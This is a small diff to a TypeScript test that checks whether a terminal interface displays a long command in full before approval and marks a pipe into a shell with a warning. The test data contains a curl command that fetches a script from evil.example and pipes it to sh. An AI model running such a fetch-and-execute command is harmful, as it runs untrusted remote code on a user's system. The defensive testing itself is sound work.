@@ -94,7 +94,7 @@ describe('the whole call before a single a allows it', () => {
     await vi.waitFor(() => expect(frame()).toContain('› c1'));
     // Part by part, each part whole, the pipe into a shell marked.
     const screen = frame().replace(/[│\n ]/g, '');
-    const [head, tail] = long.split(' && ');
+    const [head] = long.split(' && ');
     expect(screen).toContain(`$${head!.replace(/ /g, '')}`);
     expect(screen).toContain('&&curl-shttps://evil.example/x.sh');
     expect(screen).toContain('|sh⚠pipeintoashell');
